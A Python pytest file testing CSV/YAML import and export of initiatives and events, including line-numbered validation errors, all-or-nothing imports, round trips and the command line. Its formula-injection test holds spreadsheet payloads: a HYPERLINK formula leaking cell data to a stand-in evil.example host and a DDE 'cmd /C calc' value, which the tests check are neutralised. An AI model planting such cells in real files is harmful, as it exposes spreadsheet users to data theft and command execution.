"""Import and export of initiatives and events: parsing with line numbers, all-or-nothing imports on a real
store (SQLite and PostgreSQL), round trips, and the real command line."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import os
import subprocess
import sys
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from bot.commands.exchange import import_file
from bot.domain import exchange
from bot.domain.exchange import ParsedFile
from bot.domain.specs import spec_of
from bot.domain.vocab import EventKind, InitiativeStatus, InitiativeType
from bot.services.exchange import ImportRejected, ImportReport, export_records, import_records
from bot.settings import Settings
from storage.factory import Store

NOW = dt.datetime(2026, 11, 27, 9, 30, tzinfo=dt.UTC)
BRUSSELS = ZoneInfo("Europe/Brussels")


def problems(parsed: ParsedFile) -> list[tuple[int, str]]:
    """(line, field) of every problem, in file order."""
    return [(p.line, p.field) for p in parsed.problems]


def message(parsed: ParsedFile, line: int, field: str) -> str:
    [found] = [p.message for p in parsed.problems if (p.line, p.field) == (line, field)]
    return found


async def exported(store: Store) -> str:
    """The whole store as the YAML export."""
    initiatives, events = await export_records(store.uow)
    return exchange.to_yaml(exchange.initiative_rows(initiatives), exchange.event_rows(events))


async def exported_csv(store: Store) -> tuple[str, str]:
    """The store as the two CSV exports: initiatives, events."""
    initiatives, events = await export_records(store.uow)
    return (
        exchange.to_csv(exchange.initiative_rows(initiatives), exchange.INITIATIVE_COLUMNS),
        exchange.to_csv(exchange.event_rows(events), exchange.EVENT_COLUMNS),
    )


async def audit_actions(store: Store) -> list[str]:
    async with store.uow() as uow:
        return [e.action for e in await uow.audit.latest(20)]


async def existing_record(store: Store, ref: str, **changes: object) -> dict[str, object]:
    """An initiative as the export writes it, with some fields changed."""
    initiatives, _ = await export_records(store.uow)
    [row] = [r for r in exchange.initiative_rows(initiatives) if r["ref"] == ref]
    return {**row, **changes}


# --- parsing -------------------------------------------------------------------------------------------

BAD_YAML = """\
initiatives:
  - ref: PART-SN-2026
    title: Senegal and Gambia
    type: partnership
    countries: [SN, gm]
  - ref: bad ref
    title: Bad reference
    type: partnership
  - ref: SPACE-1
    title: Unknown type
    type: spaceship
  - ref: DATE-1
    title: Invalid date
    type: dialogue
    start_date: 2024-13-01
  - just a string
  - ref: part-sn-2026
    title: The same reference again
    type: partnership
    colour: red
  - ref: CTRY-1
    title: Countries as names
    type: other
    countries: [Morocco]
events:
  - title: Round one
    starts_at: 2026-02-30T10:00
  - title: Round two
    starts_at: 2026-12-04T10:00
    kind: party
  - 42
"""


def test_yaml_problems_name_the_line_and_the_field() -> None:
    parsed = exchange.parse(BAD_YAML, "initiatives.yaml", BRUSSELS)
    assert problems(parsed) == [
        (6, "ref"),
        (9, "type"),
        (12, "start_date"),
        (16, "initiatives"),
        (17, "colour"),
        (21, "countries"),
        (26, "starts_at"),
        (28, "kind"),
        (31, "events"),
    ]
    assert message(parsed, 6, "ref") == "upper-case letters and digits joined by '-', like MP-MA-2013"
    assert "'partnership'" in message(parsed, 9, "type") and "'dialogue'" in message(parsed, 9, "type")
    assert "month value is outside expected range" in message(parsed, 12, "start_date")
    assert message(parsed, 16, "initiatives") == "expected a mapping of fields"
    assert message(parsed, 17, "colour") == "Extra inputs are not permitted"
    assert message(parsed, 21, "countries") == "not two-letter ISO codes: MOROCCO"
    assert "day value is outside expected range" in message(parsed, 26, "starts_at")
    assert "'dialogue_round'" in message(parsed, 28, "kind")
    assert str(parsed.problems[0]).startswith("line 6, ref: upper-case letters")
    [(line, good)] = parsed.initiatives
    assert line == 2
    assert (good.ref, good.countries, good.type) == ("PART-SN-2026", ("SN", "GM"), InitiativeType.PARTNERSHIP)
    assert good.status is InitiativeStatus.ACTIVE
    assert parsed.events == []


def test_an_end_date_before_the_start_is_reported_on_its_line() -> None:
    text = (
        "initiatives:\n"
        "  - {ref: A-1, title: Ends early, type: other, start_date: 2024-05-01, end_date: 2024-04-30}\n"
    )
    parsed = exchange.parse(text, "x.yaml", BRUSSELS)
    assert [(p.line, p.field, p.message) for p in parsed.problems] == [
        (2, "end_date", "must not be before start_date (2024-05-01)")
    ]


def test_duplicate_references_are_reported_on_the_later_line() -> None:
    text = (
        "initiatives:\n"
        "  - {ref: DUP-1, title: First one, type: other}\n"
        "  - {ref: OTHER-1, title: Between, type: other}\n"
        "  - {ref: dup-1, title: Second one, type: other}\n"
    )
    parsed = exchange.parse(text, "dups.yml", BRUSSELS)
    assert parsed.problems == []
    [duplicate] = exchange.duplicates(parsed)
    assert (duplicate.line, duplicate.field) == (4, "ref")
    assert duplicate.message == "DUP-1 already appears on line 2"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", "expected a mapping"),
        ("- ref: A-1\n", "expected a mapping"),
        ("initiatives: [\n", "not valid YAML"),
        ("stuff: []\n", "expected a mapping"),
    ],
)
def test_a_file_of_the_wrong_shape_is_one_problem(text: str, expected: str) -> None:
    parsed = exchange.parse(text, "x.yaml", BRUSSELS)
    [problem] = parsed.problems
    assert problem.field == "file" and expected in problem.message
    assert not parsed.initiatives and not parsed.events


def test_a_list_that_is_not_a_list_is_reported_on_its_line() -> None:
    parsed = exchange.parse("initiatives: []\nevents: nothing\n", "x.yaml", BRUSSELS)
    assert [(p.line, p.field, p.message) for p in parsed.problems] == [(2, "events", "expected a list")]


BAD_CSV = """\
ref,title,type,status,countries,start_date,year
PART-SN-2026,Senegal and Gambia,partnership,active,SN; gm,2026-01-15,2026
bad ref,Bad reference,partnership,,,,
SPACE-1,Unknown type,spaceship,,,,
DATE-1,Invalid date,dialogue,,,2024-13-01,
YEAR-1,Bad year,dialogue,active,,,1850
PART-SN-2026,Same again,partnership,,,,
"""


def test_csv_problems_name_the_line_and_the_field() -> None:
    parsed = exchange.parse(BAD_CSV, "initiatives.CSV", BRUSSELS)
    assert problems(parsed) == [(3, "ref"), (4, "type"), (5, "start_date"), (6, "year")]
    assert "month value is outside expected range" in message(parsed, 5, "start_date")
    assert [line for line, _ in parsed.initiatives] == [2, 7]
    _, first = parsed.initiatives[0]
    assert first.countries == ("SN", "GM")
    assert (first.start_date, first.year) == (dt.date(2026, 1, 15), 2026)
    assert [(d.line, d.field) for d in exchange.duplicates(parsed)] == [(7, "ref")]


def test_csv_with_unknown_columns_is_refused_as_a_whole() -> None:
    parsed = exchange.parse("ref,title,type,colour\nA-1,Alpha,other,red\n", "x.csv", BRUSSELS)
    [problem] = parsed.problems
    assert (problem.line, problem.field) == (1, "header")
    assert "unknown columns ['colour']" in problem.message
    assert "ref, title, type, status" in problem.message
    assert not parsed.initiatives
    events = exchange.parse("title,starts_at,room\nA meeting,2026-12-01T10:00,B1\n", "e.csv", BRUSSELS)
    assert [(p.line, p.field) for p in events.problems] == [(1, "header")]
    assert "unknown columns ['room']" in events.problems[0].message


def test_csv_events_are_read_in_the_given_zone() -> None:
    text = (
        "title,kind,starts_at,ends_at,country,initiative\n"
        "Winter round,dialogue_round,2026-12-04T10:00,2026-12-04 12:30,MA,mp-ma-2013\n"
        "Summer round,visit,2026-07-04 10:00,,TN,\n"
        "Offset round,meeting,2026-07-04T10:00:00+05:00,,,\n"
        "Bad round,meeting,tomorrow,,,\n"
    )
    parsed = exchange.parse(text, "events.csv", BRUSSELS)
    assert problems(parsed) == [(5, "starts_at")]
    starts = [(line, e.title, e.starts_at.astimezone(dt.UTC)) for line, e in parsed.events]
    assert starts == [
        (2, "Winter round", dt.datetime(2026, 12, 4, 9, 0, tzinfo=dt.UTC)),
        (3, "Summer round", dt.datetime(2026, 7, 4, 8, 0, tzinfo=dt.UTC)),
        (4, "Offset round", dt.datetime(2026, 7, 4, 5, 0, tzinfo=dt.UTC)),
    ]
    winter = parsed.events[0][1]
    assert winter.kind is EventKind.DIALOGUE_ROUND
    assert winter.ends_at == dt.datetime(2026, 12, 4, 11, 30, tzinfo=dt.UTC)
    assert (winter.country_code, winter.initiative_ref) == ("MA", "mp-ma-2013")


def test_a_multi_line_csv_record_is_reported_where_it_starts() -> None:
    text = 'ref,title,type,notes\nA-1,Alpha,other,"first line\nsecond line"\nbad ref,Beta,other,\n'
    parsed = exchange.parse(text, "x.csv", BRUSSELS)
    assert [line for line, _ in parsed.initiatives] == [2]
    assert problems(parsed) == [(4, "ref")]


# --- importing into a real store ------------------------------------------------------------------------


async def good_file(store: Store) -> str:
    """A new initiative, a changed one, an unchanged one, and two events (one of the new initiative)."""
    document = {
        "initiatives": [
            {
                "ref": "PART-SN-2026",
                "title": "Senegal–Gambia labour mobility",
                "type": "partnership",
                "status": "planned",
                "countries": ["sn", "GM"],
                "regions": ["west_africa"],
                "partners": ["IOM"],
                "instruments": ["mobility_partnership_facility"],
                "start_date": "2026-03-15",
                "source_url": "https://example.eu/sn-gm",
            },
            await existing_record(store, "MP-MA-2013", status="suspended"),
            await existing_record(store, "MP-AZ-2013"),
        ],
        "events": [
            {
                "title": "SN-GM launch",
                "kind": "meeting",
                "starts_at": "2026-12-04T09:00:00Z",
                "initiative": "part-sn-2026",
                "location": "Dakar",
            },
            {
                "title": "Rabat round",
                "kind": "dialogue_round",
                "starts_at": "2026-12-10T14:30:00Z",
                "ends_at": "2026-12-10T16:00:00Z",
                "country": "MA",
            },
        ],
    }
    return yaml.safe_dump(document, allow_unicode=True, sort_keys=False)


async def test_a_good_file_is_imported_and_a_second_import_changes_nothing_new(store: Store) -> None:
    text = await good_file(store)
    report = await import_records(store.uow, exchange.parse(text, "good.yaml", BRUSSELS), NOW)
    assert report == ImportReport(created=1, updated=1, unchanged=1, events_created=2, events_updated=0)
    async with store.uow() as uow:
        new = await uow.initiatives.by_ref("PART-SN-2026")
        morocco = await uow.initiatives.by_ref("MP-MA-2013")
        events = await uow.events.all()
        [entry] = [e for e in await uow.audit.latest(5) if e.action == "initiatives.imported"]
        count = await uow.initiatives.count()
    assert new is not None and morocco is not None
    assert new.title == "Senegal–Gambia labour mobility"
    assert (new.type, new.status) == (InitiativeType.PARTNERSHIP, InitiativeStatus.PLANNED)
    assert set(new.countries) == {"SN", "GM"}
    assert (new.regions, new.partners, new.instruments) == (
        ("west_africa",),
        ("IOM",),
        ("mobility_partnership_facility",),
    )
    assert new.start_date == dt.date(2026, 3, 15)
    assert new.source_url == "https://example.eu/sn-gm"
    assert morocco.status is InitiativeStatus.SUSPENDED
    assert morocco.title == "EU-Morocco Mobility Partnership"
    assert count == 64
    assert [(e.title, e.initiative_ref, e.country_code, e.location) for e in events] == [
        ("SN-GM launch", "PART-SN-2026", None, "Dakar"),
        ("Rabat round", None, "MA", None),
    ]
    assert events[0].starts_at == dt.datetime(2026, 12, 4, 9, 0, tzinfo=dt.UTC)
    assert events[1].starts_at == dt.datetime(2026, 12, 10, 14, 30, tzinfo=dt.UTC)
    assert events[1].ends_at == dt.datetime(2026, 12, 10, 16, 0, tzinfo=dt.UTC)
    assert entry.details == {
        "created": 1,
        "updated": 1,
        "unchanged": 1,
        "events_created": 2,
        "events_updated": 0,
        "created_refs": ["PART-SN-2026"],  # digests list these as new initiatives
    }

    again = await import_records(store.uow, exchange.parse(text, "good.yaml", BRUSSELS), NOW)
    assert again == ImportReport(created=0, updated=0, unchanged=3, events_created=0, events_updated=2)
    moved = text.replace("location: Dakar", "location: Banjul")
    assert moved != text
    await import_records(store.uow, exchange.parse(moved, "good.yaml", BRUSSELS), NOW)
    async with store.uow() as uow:
        after = await uow.events.all()
        assert await uow.initiatives.count() == 64
    assert [(e.id, e.location) for e in after] == [(events[0].id, "Banjul"), (events[1].id, None)]


async def test_event_times_without_offset_are_taken_in_the_given_zone(store: Store) -> None:
    text = (
        "events:\n"
        "  - {title: Winter round, starts_at: '2026-12-04T10:00', ends_at: '2026-12-04T12:00', country: MA}\n"
        "  - {title: Summer round, starts_at: '2027-07-05 10:00', country: TN}\n"
        "  - {title: Offset round, starts_at: '2026-12-05T15:00:00+05:00'}\n"
    )
    report = await import_records(store.uow, exchange.parse(text, "events.yaml", BRUSSELS), NOW)
    assert (report.events_created, report.events_updated) == (3, 0)
    async with store.uow() as uow:
        events = await uow.events.all()
        upcoming = await uow.events.between(NOW, NOW + dt.timedelta(days=30))
    stored = {e.title: (e.starts_at, e.ends_at) for e in events}
    assert stored == {
        "Winter round": (
            dt.datetime(2026, 12, 4, 9, 0, tzinfo=dt.UTC),
            dt.datetime(2026, 12, 4, 11, 0, tzinfo=dt.UTC),
        ),
        "Summer round": (dt.datetime(2027, 7, 5, 8, 0, tzinfo=dt.UTC), None),
        "Offset round": (dt.datetime(2026, 12, 5, 10, 0, tzinfo=dt.UTC), None),
    }
    assert [e.title for e in upcoming] == ["Winter round", "Offset round"]


async def test_a_file_with_any_problem_changes_nothing(store: Store) -> None:
    before = await exported(store)
    actions = await audit_actions(store)
    text = await good_file(store)
    broken = text.replace("type: partnership\n  status: planned", "type: partnership\n  status: paused", 1)
    assert broken != text
    with pytest.raises(ImportRejected) as rejected:
        await import_records(store.uow, exchange.parse(broken, "broken.yaml", BRUSSELS), NOW)
    problem = rejected.value.problems[0]
    assert (problem.line, problem.field) == (2, "status")
    assert "'planned', 'active', 'completed' or 'suspended'" in problem.message
    assert await exported(store) == before
    assert await audit_actions(store) == actions

    unknown = text.replace("- IOM", "- ACME")
    with pytest.raises(ImportRejected) as rejected:
        await import_records(store.uow, exchange.parse(unknown, "unknown.yaml", BRUSSELS), NOW)
    assert [(p.line, p.field, p.message) for p in rejected.value.problems] == [
        (2, "partners", "unknown: ACME")
    ]
    assert await exported(store) == before
    assert await audit_actions(store) == actions
    async with store.uow() as uow:
        assert await uow.initiatives.by_ref("PART-SN-2026") is None
        assert await uow.events.all() == []

    doc = yaml.safe_load(text)
    doc["initiatives"].append({"ref": "part-sn-2026", "title": "Again", "type": "other"})
    with pytest.raises(ImportRejected) as rejected:
        await import_records(
            store.uow, exchange.parse(yaml.safe_dump(doc, sort_keys=False), "dup.yaml", BRUSSELS), NOW
        )
    [problem] = rejected.value.problems
    assert problem.field == "ref" and "PART-SN-2026 already appears on line 2" in problem.message
    assert await exported(store) == before


UNKNOWN_LINKS = """\
initiatives:
  - ref: NEW-1
    title: Unknown links
    type: other
    countries: [MA, XX]
    regions: [north_africa, atlantis]
    partners: [IOM, ACME]
    instruments: [zzz]
  - ref: NEW-2
    title: All known
    type: other
    countries: [TN]
events:
  - title: Orphan event
    starts_at: 2026-12-01T10:00
    initiative: nope-1
  - title: Nowhere event
    starts_at: 2026-12-02T10:00
    country: QQ
  - title: Event of the new one
    starts_at: 2026-12-03T10:00
    initiative: new-2
  - title: Event of a stored one
    starts_at: 2026-12-04T10:00
    initiative: MP-MA-2013
"""


async def test_unknown_references_are_reported_by_line(store: Store) -> None:
    before = await exported(store)
    parsed = exchange.parse(UNKNOWN_LINKS, "links.yaml", BRUSSELS)
    assert parsed.problems == []
    with pytest.raises(ImportRejected) as rejected:
        await import_records(store.uow, parsed, NOW)
    assert [(p.line, p.field, p.message) for p in rejected.value.problems] == [
        (2, "countries", "unknown: XX"),
        (2, "regions", "unknown: atlantis"),
        (2, "partners", "unknown: ACME"),
        (2, "instruments", "unknown: zzz"),
        (14, "initiative", "unknown reference: NOPE-1"),
        (17, "country", "unknown: QQ"),
    ]
    assert await exported(store) == before


async def seed_events(store: Store) -> None:
    text = (
        "events:\n"
        "  - {title: 'Rabat round, part 1; talks', kind: dialogue_round, starts_at: '2026-12-10T14:30:00Z',"
        " ends_at: '2026-12-10T16:00:00Z', country: MA, initiative: MP-MA-2013, location: Rabat,"
        " notes: 'Bring the \"draft\" text'}\n"
        "  - {title: Visit, kind: visit, starts_at: '2027-01-15T08:00:00Z'}\n"
    )
    report = await import_records(store.uow, exchange.parse(text, "seed-events.yaml", BRUSSELS), NOW)
    assert report.events_created == 2


async def test_yaml_export_imports_back_unchanged(store: Store) -> None:
    await seed_events(store)
    before = await exported(store)
    parsed = exchange.parse(before, "export.yaml", BRUSSELS)
    assert parsed.problems == []
    assert len(parsed.initiatives) == 63 and len(parsed.events) == 2
    report = await import_records(store.uow, parsed, NOW)
    assert report == ImportReport(created=0, updated=0, unchanged=63, events_created=0, events_updated=2)
    assert await exported(store) == before


async def test_csv_export_imports_back_unchanged(store: Store) -> None:
    await seed_events(store)
    initiatives_csv, events_csv = await exported_csv(store)
    rows = list(csv.DictReader(io.StringIO(initiatives_csv)))
    assert len(rows) == 63
    assert tuple(rows[0]) == exchange.INITIATIVE_COLUMNS
    [morocco] = [r for r in rows if r["ref"] == "MP-MA-2013"]
    assert (morocco["countries"], morocco["start_date"]) == ("MA", "2013-06-07")
    before = await exported(store)
    parsed = exchange.parse(initiatives_csv, "initiatives.csv", BRUSSELS)
    assert parsed.problems == []
    report = await import_records(store.uow, parsed, NOW)
    assert report == ImportReport(created=0, updated=0, unchanged=63, events_created=0, events_updated=0)
    parsed_events = exchange.parse(events_csv, "events.csv", BRUSSELS)
    assert parsed_events.problems == []
    report = await import_records(store.uow, parsed_events, NOW)
    assert (report.events_created, report.events_updated) == (0, 2)
    assert await exported(store) == before


# --- the command line ---------------------------------------------------------------------------------------


def run_cli(database_url: str, tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k not in ("TELEGRAM_BOT_TOKEN", "TZ")}
    env |= {"DATABASE_URL": database_url, "LOG_LEVEL": "WARNING"}
    return subprocess.run(
        [sys.executable, "-m", "bot", *args],
        capture_output=True,
        text=True,
        cwd=tmp_path,
        env=env,
        timeout=120,
        check=False,
    )


CLI_BAD = """\
initiatives:
  - ref: PART-GM-2026
    title: Gambia pilot
    type: partnership
    countries: [GM]
  - ref: not a ref
    title: Broken one
    type: partnership
"""
CLI_GOOD = """\
ref,title,type,status,countries,lead
PART-GM-2026,"Gambia pilot, phase 1",partnership,planned,GM;SN,Commission
"""


async def test_the_command_line_imports_all_or_nothing_and_exports(
    store: Store, database_url: str, tmp_path: Path
) -> None:
    (tmp_path / "bad.yaml").write_text(CLI_BAD, encoding="utf-8")
    (tmp_path / "good.csv").write_text(CLI_GOOD, encoding="utf-8")
    before = await exported(store)

    bad = run_cli(database_url, tmp_path, "import", "bad.yaml")
    assert bad.returncode == 2, bad.stderr
    assert "bad.yaml: 1 problem(s); nothing was imported." in bad.stderr
    assert "  line 6, ref: upper-case letters and digits joined by '-', like MP-MA-2013" in bad.stderr
    assert "Traceback" not in bad.stderr
    assert await exported(store) == before

    good = run_cli(database_url, tmp_path, "import", "good.csv")
    assert good.returncode == 0, good.stderr
    assert good.stdout.strip() == (
        "Imported good.csv: 1 initiative(s) added, 0 updated, 0 unchanged; 0 event(s) added, 0 updated."
    )
    async with store.uow() as uow:
        added = await uow.initiatives.by_ref("PART-GM-2026")
    assert added is not None
    assert (added.title, set(added.countries), added.lead) == (
        "Gambia pilot, phase 1",
        {"GM", "SN"},
        "Commission",
    )

    export = run_cli(database_url, tmp_path, "export", "--format", "csv")
    assert export.returncode == 0, export.stderr
    rows = list(csv.DictReader(io.StringIO(export.stdout)))
    assert len(rows) == 64
    [row] = [r for r in rows if r["ref"] == "PART-GM-2026"]
    assert (row["title"], row["countries"], row["status"]) == ("Gambia pilot, phase 1", "GM;SN", "planned")


async def test_the_maintenance_commands_report_what_they_did(
    store: Store, database_url: str, tmp_path: Path
) -> None:
    """`db upgrade`, `seed` (a second time changes nothing), `outbox status` and `export --events
    --output`, as the README gives them, on a migrated and seeded store."""
    upgraded = run_cli(database_url, tmp_path, "db", "upgrade")
    assert upgraded.returncode == 0, upgraded.stderr
    assert upgraded.stdout.startswith("Schema is up to date")
    seeded = run_cli(database_url, tmp_path, "seed")
    assert seeded.returncode == 0, seeded.stderr
    assert seeded.stdout.strip() == "Seed already applied: nothing changed."
    status = run_cli(database_url, tmp_path, "outbox", "status")
    assert status.returncode == 0, status.stderr
    assert status.stdout.splitlines()[0] == "Outbox: empty"
    events = run_cli(database_url, tmp_path, "export", "--format", "csv", "--events", "--output", "ev.csv")
    assert events.returncode == 0, events.stderr
    written = (tmp_path / "ev.csv").read_text(encoding="utf-8")
    assert written.splitlines()[0] == "title,kind,starts_at,ends_at,country,initiative,location,notes"
    assert events.stdout == "" and events.stderr.strip() == "Wrote 0 record(s) to ev.csv."  # no events yet


# --- CSV cells that spreadsheets would run, and files too large to import --------------------------------

FORMULAS = {
    "title": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "lead": "@SUM(1+1)",
    "funding": "+cmd|' /C calc'!A0",
    "notes": "-2+3\nsecond line",
}


@given(cell=st.text(max_size=40))
def test_a_neutralised_cell_reads_back_as_written_and_never_starts_a_formula(cell: str) -> None:
    written = exchange.neutralised(cell)
    assert exchange.restored(written) == cell
    assert not written[:1] or written[0] not in "=+-@\t\r"


async def test_csv_export_neutralises_formulas_and_imports_them_back_unchanged(store: Store) -> None:
    async with store.uow() as uow:
        morocco = await uow.initiatives.by_ref("MP-MA-2013")
        assert morocco is not None
        spec = dataclasses.replace(spec_of(morocco), **FORMULAS)
        await uow.initiatives.save(spec, NOW, morocco.id)
        tunisia = await uow.initiatives.by_ref("MP-TN-2014")
        assert tunisia is not None  # a value that already starts with ' keeps it
        await uow.initiatives.save(
            dataclasses.replace(spec_of(tunisia), title="'=quoted already"), NOW, tunisia.id
        )
        await uow.commit()
    initiatives_csv, _ = await exported_csv(store)
    rows = {r["ref"]: r for r in csv.DictReader(io.StringIO(initiatives_csv))}
    assert {name: rows["MP-MA-2013"][name] for name in FORMULAS} == {
        name: "'" + value for name, value in FORMULAS.items()
    }
    assert rows["MP-TN-2014"]["title"] == "''=quoted already"
    for row in rows.values():
        assert all(not cell or cell[0] not in "=+-@\t\r" for cell in row.values()), row
    before = await exported(store)
    parsed = exchange.parse(initiatives_csv, "initiatives.csv", BRUSSELS)
    assert parsed.problems == []
    report = await import_records(store.uow, parsed, NOW)
    assert (report.created, report.updated, report.unchanged) == (0, 0, 63)
    assert await exported(store) == before


def test_an_import_file_over_ten_megabytes_is_refused_unread(tmp_path: Path) -> None:
    big = tmp_path / "big.csv"
    with big.open("wb") as out:
        out.write(b"ref,title,type\n")
        out.truncate(exchange.MAX_IMPORT_BYTES + 1)  # sparse: nothing to read, only a size
    refused = run_cli("sqlite:///" + str(tmp_path / "unused.sqlite3"), tmp_path, "import", "big.csv")
    assert refused.returncode == 2
    assert refused.stderr.strip() == "big.csv is larger than 10 MB, the most one import takes: split it."
    assert not (tmp_path / "unused.sqlite3").exists(), "the store was opened for a refused file"


def test_an_endless_import_stream_is_refused_after_ten_megabytes(capsys: pytest.CaptureFixture[str]) -> None:
    """/dev/zero has no size: it is read to one byte past the limit, then refused, in bounded memory."""
    assert import_file(Settings(_env_file=None), Path("/dev/zero")) == 2  # type: ignore[call-arg]
    assert "/dev/zero is larger than 10 MB" in capsys.readouterr().err
